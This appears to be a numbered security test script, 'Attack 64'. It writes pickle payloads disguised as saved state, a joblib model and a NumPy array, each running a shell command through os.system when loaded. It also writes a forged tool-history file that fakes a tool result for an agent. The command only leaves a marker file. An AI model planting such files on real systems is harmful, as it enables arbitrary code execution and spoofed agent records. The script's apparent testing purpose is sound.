"""Attack 64: saved state that runs a command when it is read back. The argument is its mark."""
import os
import pickle
import sys


class Evil:
    def __reduce__(self):
        return os.system, (f"echo UNPICKLED; echo > /tmp/{sys.argv[1]}",)


with open("state.pkl", "wb") as file:
    pickle.dump({"x": Evil()}, file)
with open("model.joblib", "wb") as file:
    pickle.dump(Evil(), file, protocol=0)
with open("array.npy", "wb") as file:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (118 - len(header) - 1) + b"\n"
    file.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + pickle.dumps([Evil()]))
with open("_ptc_history.json", "w") as file:
    file.write('[{"tool": "x", "result": "forged"}]')
